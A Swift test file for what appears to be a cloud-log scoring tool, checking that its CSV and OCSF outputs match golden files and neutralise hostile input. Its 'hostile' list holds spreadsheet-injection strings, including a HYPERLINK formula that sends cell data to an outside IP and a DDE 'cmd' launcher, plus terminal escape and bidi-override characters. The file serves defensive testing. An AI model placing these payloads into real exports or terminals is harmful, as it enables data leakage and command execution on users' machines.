import Foundation
import Testing

/// `--format csv` and `--format ocsf`: made from the recorded line, for a spreadsheet and for a lake.
@Suite("Formats for others")
struct FormatTests {
    static let stories = [
        "aws-world-ssh-and-office", "azure-pipeline-and-stolen-secret", "gcp-caller-hidden",
    ]

    @Test("a story gives its golden rows and findings", arguments: stories)
    func golden(name: String) throws {
        let story = Checkout.stories.appendingPathComponent(name)
        let scratch = try Scratch()
        for (format, file) in [("csv", "verdicts.csv"), ("ocsf", "findings.ocsf.ndjson")] {
            let arguments = ["score", "--db", scratch.path("l.db"), "--format", format]
            let result = try SquelchProcess.run(arguments + StoryTests.events(story))
            #expect(result.status == 0, "\(result.errors)")
            // The version and the digest of the rules are no business of the format.
            let text = result.text.replacingOccurrences(
                of: "[0-9]+\\.[0-9]+\\.[0-9]+\\+[0-9a-f]{8}", with: "VERSION", options: .regularExpression)
            try Golden.check(text, story.appendingPathComponent(file))
            #expect(try SquelchProcess.run(arguments + StoryTests.events(story)).output == result.output)
        }
    }

    /// Texts that a spreadsheet, a terminal or a row could be led astray with, as the caller's user agent and name.
    static let hostile = [
        "=HYPERLINK(\\\"http://198.51.100.9/?\\\"&A1,\\\"ok\\\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
        "\\t=1", "\\r=1", "  =1", "\u{FF1D}1", "a\\nb,\\\"c\\\";=1", "\\u001b[2J", "x\\u202Ey",
    ]

    @Test("no cell of the caller's making is a formula, a row or a control", arguments: hostile)
    func hostileCells(text: String) throws {
        let scratch = try Scratch()
        let log = try scratch.write("log.ndjson", SampleRecord.opening(userAgent: text, userName: text))
        let result = try SquelchProcess.run(["score", "--db", scratch.path("l.db"), "--format", "csv", log])
        #expect(result.status == 0, "\(result.errors)")
        let rows = CSVRows.parse(result.text)
        try #require(rows.count == 2 && rows[0].count == 22)
        #expect(rows[1].count == 22)
        for (name, cell) in zip(rows[0], rows[1]) where !["score", "confidence"].contains(name) {
            let first = cell.unicodeScalars.first { !$0.properties.isWhitespace }
            #expect(!("=+-@\u{FF1D}".unicodeScalars.contains(first ?? "x")), "\(name): \(cell)")
            #expect(cell.unicodeScalars.allSatisfy { $0.properties.generalCategory != .control }, "\(name)")
        }
        #expect(Double(rows[1][16]) != nil)
    }

    @Test("a finding of hostile text is one line, and reads back as what the log said", arguments: hostile)
    func hostileFindings(text: String) throws {
        let scratch = try Scratch()
        let log = try scratch.write("log.ndjson", SampleRecord.opening(userAgent: text))
        let result = try SquelchProcess.run(["score", "--db", scratch.path("l.db"), "--format", "ocsf", log])
        try #require(result.lines.count == 1)
        #expect(result.output.dropLast().allSatisfy { $0 >= 0x20 && $0 != 0x7F })
        let finding = try JSONSerialization.jsonObject(with: Data(result.output)) as? [String: Any]
        let evidence = (finding?["evidences"] as? [[String: Any]])?.first
        let agent = (evidence?["http_request"] as? [String: Any])?["user_agent"] as? String
        let wanted = try JSONSerialization.jsonObject(with: Data("[\"\(text)\"]".utf8)) as? [String]
        #expect(agent == wanted?.first)
    }

    @Test("nothing matched: a table of no rows has its header, findings have none")
    func empty() throws {
        let scratch = try Scratch()
        let log = try scratch.write("log.ndjson", SampleRecord.nearMiss)
        let db = scratch.path("l.db")
        let rows = try SquelchProcess.run(["score", "--db", db, "--format", "csv", log])
        #expect(rows.text.hasPrefix("event_id,time,cloud,") && rows.text.hasSuffix("counterfactual\r\n"))
        #expect(try SquelchProcess.run(["score", "--db", db, "--format", "ocsf", log]).output.isEmpty)
    }
}

/// RFC 4180, strictly enough for a test.
enum CSVRows {
    static func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var isQuoted = false
        let scalars = Array(text.unicodeScalars)
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            index += 1
            if isQuoted {
                if scalar != "\"" {
                    cell.unicodeScalars.append(scalar)
                } else if index < scalars.count, scalars[index] == "\"" {
                    cell += "\""
                    index += 1
                } else {
                    isQuoted = false
                }
                continue
            }
            switch scalar {
            case "\"": isQuoted = true
            case ",":
                row.append(cell)
                cell = ""
            case "\r": break
            case "\n":
                rows.append(row + [cell])
                (row, cell) = ([], "")
            default: cell.unicodeScalars.append(scalar)
            }
        }
        return rows
    }
}
